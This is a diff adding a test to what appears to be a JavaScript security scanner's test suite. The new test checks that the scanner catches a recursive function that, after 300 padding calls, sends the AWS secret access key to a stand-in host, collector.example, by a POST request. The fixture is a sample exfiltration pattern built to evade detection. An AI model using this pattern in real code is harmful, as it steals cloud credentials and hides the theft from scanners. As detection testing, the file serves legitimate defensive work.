@@ -57,6 +57,20 @@ it('a list that is its own way to be called is called a few times', async () => 
   expect(findings.map(({ message }) => message).join('\n')).toContain('http://a.example/x');
 });
 
+it('the last of many calls is told where it is given what no other was', async () => {
+  const calls = "go('log', 'a');".repeat(300);
+  const { findings, verdict } = await scan(
+    'a.js',
+    `function go(what, text) {
+      if (what === 'main') { ${calls} go('put', process.env.AWS_SECRET_ACCESS_KEY); }
+      if (what === 'put') fetch('https://collector.example/x', { method: 'POST', body: text });
+    }
+    go('main');`,
+  );
+  expect(verdict).not.toBe('pass');
+  expect(findings.map(({ message }) => message).join('\n')).toContain('inside itself');
+});
+
 it('Python that the parser nests too deep while it recovers from an error is cut there', async () => {
   const { coverage, verdict } = await scan(
     'a.py',
